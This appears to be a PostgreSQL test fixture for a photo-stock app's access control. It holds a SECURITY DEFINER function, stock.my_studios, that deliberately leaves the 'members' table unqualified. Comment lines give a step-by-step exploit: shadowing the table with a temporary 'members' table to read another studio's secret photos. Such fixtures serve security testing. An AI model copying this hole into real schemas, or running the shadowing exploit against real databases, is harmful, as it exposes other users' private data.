-- Any user enters any studio by a temporary table named members, because the helper no longer names the
-- schema and its search path leaves the temporary schema in front.
-- about: my_studios, members, photos
-- as: hf_framevault_app
-- exploit: SET request.jwt.claims = '{"sub": "a1f00000-0000-4000-8000-00000000000a"}';
-- exploit: CREATE TEMP TABLE members AS SELECT 'roadpix'::text AS studio_id,
-- exploit: 'a1f00000-0000-4000-8000-00000000000a'::uuid AS user_id;
-- exploit: SELECT title FROM stock.photos;
-- shows: Road-secret photo
CREATE OR REPLACE FUNCTION stock.my_studios() RETURNS SETOF text
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = stock AS $$
  SELECT studio_id FROM members WHERE user_id = uid()
$$;
